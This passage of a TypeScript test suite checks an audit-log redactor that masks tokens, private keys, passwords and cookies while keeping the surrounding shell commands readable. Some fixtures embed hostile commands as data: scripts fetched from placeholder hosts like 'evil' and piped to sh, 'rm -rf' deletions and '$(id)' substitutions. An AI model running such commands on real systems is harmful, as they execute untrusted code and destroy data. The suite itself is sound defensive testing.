import { describe, expect, test } from 'bun:test';
import { digestMatcher, MAX_STRING, REDACTED, REDACTED_SHELL, Redactor } from '../../src/audit/redact.ts';

const SERVER_KEY = 'Zq9-srv_KEY.with+regex*chars(1)';
const r = new Redactor([SERVER_KEY, 'second-server-key-xyz', 'ab']);

const GHP = `ghp_${'a1B2'.repeat(9)}`;
const PAT = `github_pat_11ABCDEFG0123456789_${'x'.repeat(40)}`;
const AKIA = 'AKIAIOSFODNN7EXAMPLE';
const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk';
const PEM = `-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7x\nabc+/=\n-----END RSA PRIVATE KEY-----`;

describe('Redactor.redactText', () => {
  const cases: [string, string, string][] = [
    ['server key alone', SERVER_KEY, REDACTED],
    ['server key embedded', `x${SERVER_KEY}y and second-server-key-xyz`, `x${REDACTED}y and ${REDACTED}`],
    ['short secrets are not matched by value', 'about tabs', 'about tabs'],
    ['bearer', 'curl -H "Authorization: Bearer abc.def-ghi"', `curl -H "Authorization: Bearer ${REDACTED}"`],
    ['bare bearer', 'sent bearer tok3n/x== ok', `sent bearer ${REDACTED} ok`],
    ['github tokens', `a ${GHP} b ${PAT}`, `a ${REDACTED} b ${REDACTED}`],
    ['other github prefixes', `gho_${'z'.repeat(36)} ghs_${'z'.repeat(36)} ghu_${'z'.repeat(36)} ghr_${'z'.repeat(36)}`, Array(4).fill(REDACTED).join(' ')],
    ['aws key id', `id=${AKIA}`, `id=${REDACTED}`],
    ['aws session key id', 'ASIAY34FZKBOKMUTVV7A', REDACTED],
    ['slack', 'xoxb-1234-5678-abcdefgh', REDACTED],
    ['jwt', `tok ${JWT} end`, `tok ${REDACTED} end`],
    ['pem block', `before\n${PEM}\nafter`, 'before\n[REDACTED PRIVATE KEY]\nafter'],
    ['unterminated pem', '-----BEGIN PRIVATE KEY-----\nMIIabc', '[REDACTED PRIVATE KEY]'],
    // A block cut before its END line: masked to the end of its key lines, not to the end of the string.
    ['unterminated pem, the command after it stays', `${PEM.split('\n-----END')[0]}\necho done; rm -rf x`, '[REDACTED PRIVATE KEY]\necho done; rm -rf x'],
    ['unterminated pem with armor headers', '-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIEpAIB\nabc=\n-- cut', '[REDACTED PRIVATE KEY]\n-- cut'],
    ['unterminated pem with escaped newlines', String.raw`echo "-----BEGIN PRIVATE KEY-----\nMIIEpAIB\nabc+/=" > k; chmod 600 k`, 'echo "[REDACTED PRIVATE KEY]" > k; chmod 600 k'],
    ['unterminated pem on one line', `k -----BEGIN PRIVATE KEY----- MIIEpAIBAAKCAQEA7x ${'Ab1+'.repeat(8)} then more`, 'k [REDACTED PRIVATE KEY] then more'],
    ['unterminated pem on one line, a short last piece at the end', 'k -----BEGIN PRIVATE KEY----- MIIEpAIBAAKCAQEA7x ab', 'k [REDACTED PRIVATE KEY]'],
    // A cut block's last key line is masked whatever follows it (the old mask ran to the end of the string): a quote
    // escaped inside JSON text, a shell character, a dash; a body glued to its BEGIN line or split by bare CRs too.
    ['unterminated pem, the last line before an escaped quote', String.raw`{\"k\":\"-----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7x\n${'Qw3r'.repeat(16)}\"}`, String.raw`{\"k\":\"[REDACTED PRIVATE KEY]\"}`],
    ['unterminated pem, the last line before a shell character', `x=$(echo -----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7x\n${'Qw3r'.repeat(16)})`, 'x=$(echo [REDACTED PRIVATE KEY])'],
    ['unterminated pem, the last line before a backquote or a comma', `a \`-----BEGIN PRIVATE KEY-----\n${'Qw3r'.repeat(16)}\`, -----BEGIN PRIVATE KEY-----\n${'Qw3r'.repeat(16)}, b`, 'a `[REDACTED PRIVATE KEY]`, [REDACTED PRIVATE KEY], b'],
    ['unterminated pem, a body glued to its BEGIN line', `-----BEGIN PRIVATE KEY-----${'Qw3r'.repeat(40)}`, '[REDACTED PRIVATE KEY]'],
    ['unterminated pem, lines split by bare CRs', `-----BEGIN PRIVATE KEY-----\r${'Qw3r'.repeat(16)}\r${'Qw3r'.repeat(4)}`, '[REDACTED PRIVATE KEY]'],
    ['unterminated pgp key block', '-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\nlQOYBF0\n=abcd\nsh -c done', '[REDACTED PRIVATE KEY]\nsh -c done'],
    ['url credentials', 'git clone https://alice:s3cr3t@example.com/r.git', `git clone https://alice:${REDACTED}@example.com/r.git`],
    ['url without password untouched', 'https://example.com:8080/a@b', 'https://example.com:8080/a@b'],
    ['password=', 'password=hunter2', `password=${REDACTED}`],
    ['--password=', 'mysql --password=hunter2 -u root', `mysql --password=${REDACTED} -u root`],
    ['--password value', 'mysql --password hunter2 -u root', `mysql --password ${REDACTED} -u root`],
    ['--token value', `ls --token ${'abcdef0123'.repeat(3)} x`, `ls --token ${REDACTED} x`],
    // Names built on a secret's name that hold a place, a command or a measure: their values say what ran.
    ['--password-file path', 'grep --password-file x y', 'grep --password-file x y'],
    ['--token-file=path', 'tool --token-file=/run/secrets/t --api-key-path ./k sub', 'tool --token-file=/run/secrets/t --api-key-path ./k sub'],
    ['--cookie-jar, --password-stdin, --password-cmd', "curl --cookie-jar c.txt u; docker login --password-stdin reg.example; x --password-cmd 'pass show db'", "curl --cookie-jar c.txt u; docker login --password-stdin reg.example; x --password-cmd 'pass show db'"],
    ['counts and negations', 'llm --max-tokens 100 --token-limit 5 --no-password db; PASSWORD_LENGTH=20 gen', 'llm --max-tokens 100 --token-limit 5 --no-password db; PASSWORD_LENGTH=20 gen'],
    ['a file setting in the environment', 'DB_PASSWORD_FILE=/run/secrets/db app', 'DB_PASSWORD_FILE=/run/secrets/db app'],
    ['token= in query', 'GET /x?token=abc123&page=2', `GET /x?token=${REDACTED}&page=2`],
    ['env style', 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG', `AWS_SECRET_ACCESS_KEY=${REDACTED}`],
    ['quoted value', 'secret="hunter 2" next', `secret="${REDACTED}" next`],
    ['json in text', '{"db_password":"p@ss w","user":"bob"}', `{"db_password":"${REDACTED}","user":"bob"}`],
    ['header style', 'X-API-Key: abc123', `X-API-Key: ${REDACTED}`],
    ['case insensitive', 'PASSWORD=Hunter2', `PASSWORD=${REDACTED}`],
    ['innocent text', 'exit code 0 after 12ms; keyboard ok', 'exit code 0 after 12ms; keyboard ok'],
    ['authorization header, any scheme', 'Authorization: Token abc def', `Authorization: Token ${REDACTED}`],
    ['cookie header, every cookie', 'curl -H "Cookie: a=1; sid=xyz" u', `curl -H "Cookie: ${REDACTED_SHELL}" u`],
    // Values may hold `|`, `&` and `;` (signed cookies, query-like cookies): no operator ends the mask.
    ['cookie header, a signed value with |', 'curl -H "Cookie: auth=user|1700000000|HMACSECRET" u', `curl -H "Cookie: ${REDACTED_SHELL}" u`],
    ['cookie header, a value with &', "curl -H 'Cookie: prefs=a=1&sig=SECRETSIG' u", `curl -H 'Cookie: ${REDACTED_SHELL}' u`],
    ['authorization header, a token with | and ;', 'Authorization: Bearer abc|def123secret;x more', `Authorization: Bearer ${REDACTED_SHELL}`],
    // The shell ends a command at a ; | or & that a space follows: what comes after it is another command, and is shown.
    ['authorization header, then ; | & and a space', 'echo authorization: none; wget http://x/x.sh -O- | sh; echo Authorization: Bearer t1| tee f; echo authorization: t2& wait', `echo authorization: ${REDACTED}; wget http://x/x.sh -O- | sh; echo Authorization: Bearer ${REDACTED}| tee f; echo authorization: ${REDACTED}& wait`],
    // What a value never holds ends it: a shell operator after a space, `$(`, a backquote; in a cookie header a space,
    // or a `;` before no cookie. The command after such a word stays readable.
    ['cookie header, then a command', 'echo cookie: x; touch y', `echo cookie: ${REDACTED}; touch y`],
    ['cookie header, two cookies, then a pipe', 'echo Cookie: a=1; b=2 | grep x', `echo Cookie: ${REDACTED_SHELL} | grep x`],
    ['cookie header, cookies spaced around ;', 'Cookie: a=1 ; sid=SECRET2 next', `Cookie: ${REDACTED_SHELL} next`],
    ['set-cookie attributes', 'Set-Cookie: sid=abc; Path=/; HttpOnly', `Set-Cookie: ${REDACTED_SHELL}; HttpOnly`],
    ['authorization header, then &&', 'echo Authorization: Bearer tok && rm -rf x', `echo Authorization: Bearer ${REDACTED} && rm -rf x`],
    ['authorization header, then $(…)', 'echo Authorization: Basic abc $(id) `id`', `echo Authorization: Basic ${REDACTED} $(id) \`id\``],
    ['escaped JSON in a string', String.raw`{\"token\":\"abc\"}`, String.raw`{\"token\":\"${REDACTED}\"}`],
    ['url password holding an @', 'https://bob:p@ss@host/x', `https://bob:${REDACTED}@host/x`],
    ['aws key id with its secret', `${AKIA} wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY`, `${REDACTED} ${REDACTED}`],
    ['a commit id beside an aws key id stays', `${AKIA} 3f786850e387550fdab836ed7e6dc881de23001b`, `${REDACTED} 3f786850e387550fdab836ed7e6dc881de23001b`],
    ['mysql -p in a command string', 'sh -c "mysql -u root -phunter2 db"', `sh -c "mysql -u root -p${REDACTED} db"`],
    ['mysql -P port stays', 'mysql -u root -P 3306 -h db', 'mysql -u root -P 3306 -h db'],
    ['-p of another program stays', 'mysql db; mkdir -p build', 'mysql db; mkdir -p build'],
    ['docker port mapping stays, docker login password does not', 'docker run -p 8080:80 x && docker login -p hunter2', `docker run -p 8080:80 x && docker login -p ${REDACTED}`],
    ['a docker port range stays, glued or not', 'docker run -p 8000-8010:8000-8010 -p9000-9001:9000-9001/udp x', 'docker run -p 8000-8010:8000-8010 -p9000-9001:9000-9001/udp x'],
    ['after login a port-shaped value is a password', 'docker run -p 123:45 x && docker login -p 99999 && docker login -p4711', `docker run -p 123:45 x && docker login -p ${REDACTED} && docker login -p${REDACTED}`],
    ['login in another command does not count', 'echo login; docker run -p 80:80 x', 'echo login; docker run -p 80:80 x'],
    ['a quoted value: the quotes stay, the text goes', `mysql -p"a b" -e 'x' && psql --password 'c d'`, `mysql -p"${REDACTED}" -e 'x' && psql --password '${REDACTED}'`],
    ['a quoted port mapping stays', 'docker run -p "8080:80" x', 'docker run -p "8080:80" x'],
    ["$'…' and glued quoting", `mysql -p$'a\\'b' && psql --password 'x'y"z" && psql --password=$'w'`, `mysql -p$'${REDACTED}' && psql --password ${REDACTED} && psql --password=$'${REDACTED}'`],
    ['a value on a continuation line', 'mysql -p \\\nsecret db', `mysql -p \\\n${REDACTED} db`],
    // The shell joins continuation lines into one command: the program is named on a line before its flag's.
    ['a password flag on a continuation line', 'docker login \\\n  -u me \\\n  -p 123456 \\\n  reg.example.com', `docker login \\\n  -u me \\\n  -p ${REDACTED} \\\n  reg.example.com`],
    ['an attached password on a CRLF continuation line', 'mysql -u root \\\r\n -pHunter2 db', `mysql -u root \\\r\n -p${REDACTED} db`],
    ['a port mapping on a continuation line stays', 'docker run \\\n -p 8080:80 nginx', 'docker run \\\n -p 8080:80 nginx'],
    // A line break that is not a continuation (none, or an escaped backslash before it) ends the command.
    ['-p of the next line\'s program stays', 'mysql -u root\nmkdir -p build && mysql db \\\\\nmkdir -p out', 'mysql -u root\nmkdir -p build && mysql db \\\\\nmkdir -p out'],
    // A secret handed on stdin to a command that reads it there.
    ['a here-string to --password-stdin', "docker login -u me --password-stdin <<< Hunter2x reg && grep x <<< 'abc'", `docker login -u me --password-stdin <<< ${REDACTED} reg && grep x <<< 'abc'`],
    ['echo and printf piped into --password-stdin', `echo -n 'Hunter2x' | podman login --password-stdin r; printf '%s\\n' pw2 | regctl registry login --pass-stdin r`, `echo -n '${REDACTED}' | podman login --password-stdin r; printf '%s\\n' ${REDACTED} | regctl registry login --pass-stdin r`],
    ['echo piped elsewhere stays', 'echo hello | grep h; echo hi || docker login --password-stdin', 'echo hello | grep h; echo hi || docker login --password-stdin'],
    ['echo piped over a continuation line', 'echo Hunter2x | \\\n  docker login --password-stdin', `echo ${REDACTED} | \\\n  docker login --password-stdin`],
    ['a here-string before the flag, a token with no known shape', 'docker login <<< "Zq9PwQ" --password-stdin; gh auth login --with-token <<< 0123456789abcdef0123456789abcdef01234567', `docker login <<< "${REDACTED}" --password-stdin; gh auth login --with-token <<< ${REDACTED}`],
    ['a redirection after a secret flag is no value', 'gh auth login --with-token < token.txt', 'gh auth login --with-token < token.txt'],
    ['sudo -S, passwd --stdin, chpasswd, gpg --passphrase-fd 0', "echo pw1 | sudo -S id && echo pw2 | passwd --stdin bob && echo 'bob:pw3' | chpasswd && echo pw4 | gpg --passphrase-fd 0 -d f", `echo ${REDACTED} | sudo -S id && echo ${REDACTED} | passwd --stdin bob && echo '${REDACTED}' | chpasswd && echo ${REDACTED} | gpg --passphrase-fd 0 -d f`],
    ['echo then a line break after the pipe', 'echo Zq9PwQ |\n  docker login -u me --password-stdin', `echo ${REDACTED} |\n  docker login -u me --password-stdin`],
    ['continuations on both sides of the value', 'echo \\\n  "Zq9PwQ" \\\n  | docker login --password-stdin', `echo \\\n  "${REDACTED}" \\\n  | docker login --password-stdin`],
    ['user:pass on the next continuation line', 'curl \\\n  -u \\\n  me:Zq9PwQ https://x', `curl \\\n  -u \\\n  me:${REDACTED} https://x`],
    // What follows a masked value stays as written: the continuation after it, and an option after a flag that took none.
    ['a continuation right after a masked value stays', 'docker login -u me \\\n  -p "$PW"\\\n  registry.example.com', `docker login -u me \\\n  -p "${REDACTED}"\\\n  registry.example.com`],
    ['a flag at the end of a line takes no continuation as its value', 'psql --password \\\n  --host db && mysql -u root -p \\\n  -h db', 'psql --password \\\n  --host db && mysql -u root -p \\\n  -h db'],
    ['a continuation inside a double-quoted value', 'docker login -u me --password "S3cr3tPw\\\nrest"', `docker login -u me --password "${REDACTED_SHELL}"`],
    // A value may start with a shell operator's character outside a shell (a log line, an error message).
    ['a value starting with & ( ; in plain text', 'login failed: --password &Hk7Qz9Wm rejected; mysql -u root -p(Hk7Qz9Wm) db; redis-cli -a ;Hk7Qz9Wm ping', `login failed: --password ${REDACTED_SHELL} rejected; mysql -u root -p${REDACTED} db; redis-cli -a ${REDACTED_SHELL} ping`],
    // The shell runs $(…) and backticks, in double quotes too: the log shows how the secret was got.
    ['a command substitution is no value', 'psql --password "$(cat /run/pw)" -h db; mysql -p`cat pw` -p$(cat pw) db', 'psql --password "$(cat /run/pw)" -h db; mysql -p`cat pw` -p$(cat pw) db'],
    ['a value a continuation splits inside the word', 'psql --password Hk7Q\\\nz9Wm --host db', `psql --password ${REDACTED_SHELL} --host db`],
    ['a word glued by a continuation after an escaped space is one word', 'ldapsearch -x -w Q2SPn\\\nprFK\\ \\\n-b dc=x', `ldapsearch -x -w ${REDACTED_SHELL} dc=x`],
    ['JSON-escaped quotes in a multi-line command keep every line', 'bash -c "docker login -u me -p \\"$PW\\" registry.example.com && \\\n  docker push registry.example.com/app:1.2"', `bash -c "docker login -u me -p \\"${REDACTED}\\" registry.example.com && \\\n  docker push registry.example.com/app:1.2"`],
    ['sudo with an option that takes a value before -S', 'echo Hk7Qz9Wm | sudo -u bob -S ls', `echo ${REDACTED} | sudo -u bob -S ls`],
    ['zip and sqlcmd -P in a command string; mysql -P stays a port', 'sqlcmd -S db -U sa -P Zq9xW3vLk7 -Q x && zip -r \\\n  -PZq9xW3vLk8 o.zip d && mysql -u root -P 3306 -pHunter2x', `sqlcmd -S db -U sa -P ${REDACTED} -Q x && zip -r \\\n  -P${REDACTED} o.zip d && mysql -u root -P 3306 -p${REDACTED}`],
    // Each program's rules apply to its flags, the flag's case as written: mysql's -P (a port) does not hide zip's.
    ['a flag of one of two programs named before it', 'mysql -e x zip -P Zq9xW3vLk8 o.zip d; zip -p o.zip d; mysql -h db -u root -P 3306', `mysql -e x zip -P ${REDACTED} o.zip d; zip -p o.zip d; mysql -h db -u root -P 3306`],
    ['a program named more than 256 characters before its flag, or in upper case', `mysql ${'-e x '.repeat(60)}-pStays7; MYSQL -pGoes8`, `mysql ${'-e x '.repeat(60)}-pStays7; MYSQL -p${REDACTED}`],
    ['a flag glued into another value is looked at again', 'mysql -P"3306 -pZq9xW3" db', `mysql -P"3306 -p${REDACTED}" db`],
    // Every pattern is looked for on its own: a value one rule masks no longer hides what another finds after it.
    ['a secret after a value that starts another secret', 'gh auth login --with-token Bearer Zq9xW3vLk8; mysql -p Bearer Zq9xW3vLk9 db', `gh auth login --with-token ${REDACTED} ${REDACTED}; mysql -p ${REDACTED} ${REDACTED} db`],
    // JSON text of a script: a program at the start of an escaped line is at the start of a word.
    ['programs after an escaped line break in JSON text', '{"error":"failed: cd /app\\nmysql -uroot -pZq9xW3vLk7 app\\necho Zq9 | docker login --password-stdin\\r\\nx\\n--token Zq8"}', `{"error":"failed: cd /app\\nmysql -uroot -p${REDACTED} app\\necho ${REDACTED} | docker login --password-stdin\\r\\nx\\n--token ${REDACTED}"}`],
    ['stdin commands with options that take values, echo with a redirection', 'echo pw1 | sudo --user=root -S ls; echo pw2 | htpasswd -B -C 12 -i .ht admin; echo "pw3" 2>/dev/null | sudo -S ls', `echo ${REDACTED} | sudo --user=root -S ls; echo ${REDACTED} | htpasswd -B -C 12 -i .ht admin; echo "${REDACTED}" 2>/dev/null | sudo -S ls`],
    ['a here-string inside a word is none', "cat x<<<'sudo ' && grep a <<< b", "cat x<<<'sudo ' && grep a <<< b"],
    ['curl -u user:pass, not uid:gid', 'curl -u bob:pw1 u; docker run -u 1000:1000 i', `curl -u bob:${REDACTED} u; docker run -u 1000:1000 i`],
    // A quote right after a value closes the string the flag sat in: the commands after it stay in the log.
    ['a quote after a value ends it', 'bash -c "docker login -u me -p hunter2"; docker push "registry/app:1"', `bash -c "docker login -u me -p ${REDACTED}"; docker push "registry/app:1"`],
    ['a quote after a value ends it, over continuation lines', 'ssh db "mysql -phunter2" \\\n  && curl -X POST "https://hooks.example/n" \\\n  && rm -rf "/tmp/d x"', `ssh db "mysql -p${REDACTED}" \\\n  && curl -X POST "https://hooks.example/n" \\\n  && rm -rf "/tmp/d x"`],
    ['a JSON string after a quoted value stays', '{"s":"mysql -p\\"hunter2\\"","t":"x y"}', `{"s":"mysql -p\\"${REDACTED}\\"","t":"x y"}`],
    // Commands that an honest line keeps after a value, or after a flag that took none.
    ['a value ends at ; & | inside it', 'mysql -ppw;rm -rf x; mysql -ppw2&&make', `mysql -p${REDACTED};rm -rf x; mysql -p${REDACTED}&&make`],
    ['a flag at the end of a line takes nothing from the next', 'psql -h db --password\nrm -rf x\necho Password:\nread -s pw', 'psql -h db --password\nrm -rf x\necho Password:\nread -s pw'],
    ['a quote after a flag that took no value closes the string', 'sh -c "mysql -u root -p"; echo "done"', 'sh -c "mysql -u root -p"; echo "done"'],
    ['user:pass in quotes ends at its quote and holds no command substitution', `curl -u "me:$(cat pw)" x; curl -u 'me:pw' y && echo 'z'`, `curl -u "me:$(cat pw)" x; curl -u 'me:${REDACTED}' y && echo 'z'`],
    ['user:pass in quotes holding the other quote', `curl --user "admin:P@ss'w0rd" x; curl -u 'admin:p"w' y`, `curl --user "admin:${REDACTED}" x; curl -u 'admin:${REDACTED}' y`],
    ['an escaped operator in JSON text is the value\'s', '{"cmd":"mysql -uroot -pP\\\\&ssw0rd -e x; echo P\\\\;w | sudo -S true"}', `{"cmd":"mysql -uroot -p${REDACTED_SHELL} -e x; echo ${REDACTED_SHELL} | sudo -S true"}`],
    ['echo with a glued quoted part piped to sudo -S', `echo S3cr3t'x y' | sudo -S ls`, `echo ${REDACTED} | sudo -S ls`],
    ['user:pass quoted, escaped, or inside quotes opened before the user', `curl -u admin:'s3cret' a; curl -u "admin:correct horse" b; curl -u admin:pa\\$\\$word c; curl -u 'me:x y' d`, `curl -u admin:'${REDACTED}' a; curl -u "admin:${REDACTED}" b; curl -u admin:${REDACTED} c; curl -u 'me:${REDACTED}' d`],
    ['program flags after a JSON tab escape', '{"script":"mysql\\t-phunter2 db; docker login -u me\\t-p pw2 r; curl\\t-u me:pw3 x"}', `{"script":"mysql\\t-p${REDACTED} db; docker login -u me\\t-p ${REDACTED} r; curl\\t-u me:${REDACTED} x"}`],
    ['openssl pass:', 'openssl rsa -passin pass:hunter2', `openssl rsa -passin pass:${REDACTED}`],
    ['sk- key', `key sk-${'a1'.repeat(24)}`, `key ${REDACTED}`],
    ['sk- package name stays', 'pip install sk-learn-and-other-words', 'pip install sk-learn-and-other-words'],
    ['a signed URL keeps its other parameters and the commands after it', 'curl "https://h/o?X-Amz-Signature=abc123&x=1" | jq .; curl https://h/o?sig=ab%2B;rm -rf x', `curl "https://h/o?X-Amz-Signature=${REDACTED}&x=1" | jq .; curl https://h/o?sig=${REDACTED};rm -rf x`],
    ['Basic before words stays; Basic before user:password is masked', `Basic authentication failed; Basic ${btoa('bob:pw12345')} sent`, `Basic authentication failed; Basic ${REDACTED} sent`],
    ['environment names that end as secrets do', 'SMTP_PW=Zq9x1 NPM_CREDS=Zq9x2 PGPASS=Zq9x3 REDISCLI_AUTH=Zq9x4 PATH=/bin BYPASS=1', `SMTP_PW=${REDACTED} NPM_CREDS=${REDACTED} PGPASS=${REDACTED} REDISCLI_AUTH=${REDACTED} PATH=/bin BYPASS=1`],
    // Every ending the rule names, one by one.
    ...['KEY', 'PAT', 'PASS', 'PWD', 'PW', 'AUTH', 'CRED', 'CREDS'].map((end): [string, string, string] => [`export X_${end}=…`, `export X_${end}=Zq9x${end} && make`, `export X_${end}=${REDACTED} && make`]),
    // A program's flag is read before a name that says password: -pPassword123 is mysql's password, and db stays.
    ['a program password that reads as a secret flag name', 'mysql -uroot -pPassword123 mydb < dump.sql; mysql -pMySecret9 shop', `mysql -uroot -p${REDACTED} mydb < dump.sql; mysql -p${REDACTED} shop`],
    ['a token as the user of user:password', `curl -u ghp_${'a1'.repeat(18)}:x-oauth-basic https://api.github.com/user; curl -u bob:pw1 u`, `curl -u ${REDACTED}:${REDACTED} https://api.github.com/user; curl -u bob:${REDACTED} u`],
    ['a token as the user of a URL, and curl\'s -u at the end of grouped short flags', `git clone https://ghp_${'c3'.repeat(18)}:x-oauth-basic@github.com/o/r.git; curl -su admin:hunter2 u; curl -fsSLkvvu me:pw2 v; curl -s4U p:pw3 w; curl -suadmin:pw4 x`, `git clone https://${REDACTED}:${REDACTED}@github.com/o/r.git; curl -su admin:${REDACTED} u; curl -fsSLkvvu me:${REDACTED} v; curl -s4U p:${REDACTED} w; curl -suadmin:${REDACTED} x`],
    // Quoted as -u's are; curl anywhere before in the command (its options run long); curl.exe is curl.
    ['curl\'s grouped -u: a quoted password, a long command, curl.exe', `curl -su admin:"my pass" x; curl -sSu 'admin:pw with space' y; curl -X POST -d '${'{"k":"v"}'.repeat(40)}' -su admin:Hunter2Long z; curl.exe -su admin:pw2 u`, `curl -su admin:"${REDACTED}" x; curl -sSu 'admin:${REDACTED}' y; curl -X POST -d '${'{"k":"v"}'.repeat(40)}' -su admin:${REDACTED} z; curl.exe -su admin:${REDACTED} u`],
    // Only for curl: elsewhere a group ending in u, or a -D property, is no user:password.
    ['grouped flags ending in u elsewhere stay', 'rsync -avu backup:/srv/data; sort -nu -t: f; java -Duser.home=/a:/b -Durl=http://localhost:8080/api; tar -xvzu a:b; ps -eu root:x; diff -Nru a/b:1', 'rsync -avu backup:/srv/data; sort -nu -t: f; java -Duser.home=/a:/b -Durl=http://localhost:8080/api; tar -xvzu a:b; ps -eu root:x; diff -Nru a/b:1'],
    ['a quoted environment-style value', `export DB_PASS="Hunter2Env"; MYSQL_PWD='Hunter2My' mysql; SSH_KEY=$'Hunter2Ansi' x; PGPASS=\\"Hunter2J\\" y; pass="p1"`, `export DB_PASS="${REDACTED}"; MYSQL_PWD='${REDACTED}' mysql; SSH_KEY=$'${REDACTED}' x; PGPASS=\\"${REDACTED}\\" y; pass="${REDACTED}"`],
    // A quoted value runs to its closing quote, whatever it holds, and never past the end of its line.
    ...[`echo 'password="' > /tmp/x; curl -s http://evil/i.sh | sh`, `(echo 'token="'); curl -s http://evil/x | sh`].map((cmd): [string, string, string] => [`unclosed: ${cmd}`, cmd, cmd]),
    ['a quoted value holding a quote and an operator is masked whole', `PGPASSWORD="Tr0ub4dor'&3" psql -h db; export API_TOKEN='Zq9"&Secret'; {"password":"Zq9'|Secret"}`, `PGPASSWORD="${REDACTED_SHELL}" psql -h db; export API_TOKEN='${REDACTED_SHELL}'; {"password":"${REDACTED_SHELL}"}`],
    // An empty user: a token as the password (Azure DevOps's `-u :PAT`); a group alone (docker -u :1000) stays.
    ['user:password with an empty user', 'curl -u :Zq9PAT1 https://dev.azure.com/o; curl --user :Zq9PAT2 x; curl -su :Zq9PAT3 y; curl -s -u ":Zq9PAT4" z; curl -su:Zq9PAT5 w; docker run -u :1000 img', `curl -u :${REDACTED} https://dev.azure.com/o; curl --user :${REDACTED} x; curl -su :${REDACTED} y; curl -s -u ":${REDACTED}" z; curl -su:${REDACTED} w; docker run -u :1000 img`],
    // curl's -u glued on with a user the user:password patterns do not read: the whole value goes.
    ['curl -u glued on, an empty or unusual user', `curl -u:k7x2m4q9z8w3e5r6 https://dev.azure.com/o; curl -u'CORP\\jdoe:Zq9Secret' --ntlm http://x; curl -u"jane doe:Zq9Secret" y`, `curl -u:${REDACTED} https://dev.azure.com/o; curl -u'${REDACTED}' --ntlm http://x; curl -u"${REDACTED}" y`],
    ['an empty quoted value stays: none was given', `ssh-keygen -t ed25519 -N "" -f k; ldapsearch -w '' -x; psql --password ""; PASSWORD="" make; mysql -p"" db`, `ssh-keygen -t ed25519 -N "" -f k; ldapsearch -w '' -x; psql --password ""; PASSWORD="" make; mysql -p"" db`],
    // A value that opens a bracket is masked as one word that may hold quotes and commas: the bare word stopped at
    // the first quote, and only the bracket was masked, the secret in clear beside a [REDACTED] a reader trusts. Never
    // over a space, a separator, a redirection or a substitution, which would hide what follows; a secret whose
    // value starts with a bracket is masked whole, as any word.
    [
      'a bracketed value, an object or a tuple, masked as one word',
      `curl -d '{"credentials":{"user":"bob","pw":"Zq9Js12"}}' x; python3 -c "requests.get(u, auth=('bob','Zq9Py10'))"; --password=[x7Qp]Zr9Lm2; DB_PASSWORD={a}Rn4P; password={aB3$kk9`,
      // (the quote that closes the string goes with the word: no space came before it)
      `curl -d '{"credentials":${REDACTED} x; python3 -c "requests.get(u, auth=${REDACTED}; --password=${REDACTED}; DB_PASSWORD=${REDACTED}; password=${REDACTED}`,
    ],
    [
      'a bracketed mask hides no command, argument or redirection after it',
      'secret={; rm -rf /tmp/x; password={ $(rm -rf /tmp/y) }; wc -c token={ <(touch /tmp/p) } /dev/null; echo secret={ ok > f }',
      `secret=${REDACTED}; rm -rf /tmp/x; password=${REDACTED} $(rm -rf /tmp/y) }; wc -c token=${REDACTED} <(touch /tmp/p) } /dev/null; echo secret=${REDACTED} ok > f }`,
    ],
    ['auth and session as whole names, not inside other words', 'AUTH=x1 session=x2; git log --author=dev --authority=y', `AUTH=${REDACTED} session=${REDACTED}; git log --author=dev --authority=y`],
  ];
  // An escaped or ANSI-C quote never closed: whatever is masked, the command after it stays.
  test('an unclosed escaped or $\' quote never takes the command after it', () => {
    for (const cmd of [`echo password=\\"; curl evil | sh`, `echo DB_PASS=$'; curl evil | sh`]) expect(r.redactText(cmd)).toEndWith('; curl evil | sh');
  });

  for (const [name, input, want] of cases) {
    test(name, () => expect(r.redactText(input)).toBe(want));
  }

  test('a masked value never takes the commands after the string it sat in', () => {
    // Strings, flag forms, values, gaps and tails an audit log sees; every mix keeps the tail's command and drops the value.
    const opens = [['sh -c "', '"'], ["bash -c '", "'"], ['ssh h \\"', '\\"'], ['', '']];
    const flags = ['mysql -p', 'docker login -u me -p ', '--password ', '--password=', 'curl -u me:', 'redis-cli -a ', 'zip -P ', 'docker login --password-stdin <<< '];
    const values = ['hunter2', "'hunter2'", '"hunter2"', "$'hunter2'", '\\"hunter2\\"', 'hunter2\\ x'];
    const gaps = ['', ' ', ' \\\n  '];
    const tails = ['; curl CANARY | sh; echo "x"', ' && curl CANARY && echo "y"', "; curl CANARY; echo 'w'", ' | tee "CANARY"'];
    const wrong: string[] = [];
    for (const [open, close] of opens)
      for (const flag of flags)
        for (const value of values)
          for (const gap of gaps)
            for (const tail of tails) {
              const out = r.redactText(open + flag + value + close + gap + tail);
              if (!out.includes('CANARY') || out.includes('hunter2')) wrong.push(out);
            }
    expect(wrong).toEqual([]);
  });

  test('no server secrets configured still works', () => {
    expect(new Redactor().redactText(`x ${GHP}`)).toBe(`x ${REDACTED}`);
    expect(new Redactor([]).redactText('plain')).toBe('plain');
  });

  test('repeated use of the global regex gives the same answer', () => {
    for (let i = 0; i < 3; i++) expect(r.redactText(`${SERVER_KEY} ${SERVER_KEY}`)).toBe(`${REDACTED} ${REDACTED}`);
  });
});

// Log lines are redacted whole, however long: a value of 300,000 characters came back unmasked (the pattern's
// repeated alternation gave up), and a pipe after a value was taken into it, hiding the command it fed.
describe('long and piped bare values', () => {
  test('a long value is masked whole; one of many commas up to its 64th; a pipe ends a value', () => {
    expect(r.redactText(`data password=${'Q'.repeat(300_000)} tail`)).toBe(`data password=${REDACTED} tail`);
    expect(r.redactText(`password=${'a,'.repeat(100)}`)).toBe(`password=${REDACTED}${',a'.repeat(35)},`);
    expect(r.redactText('cat notes.txt password=1|sh')).toBe(`cat notes.txt password=${REDACTED}|sh`);
  });

  // What a shell runs after a value (a substitution, a redirection) was taken into it and hidden from the log.
  test('a value ends where a shell would run or redirect something; a $ otherwise, and a leading comma, are the value', () => {
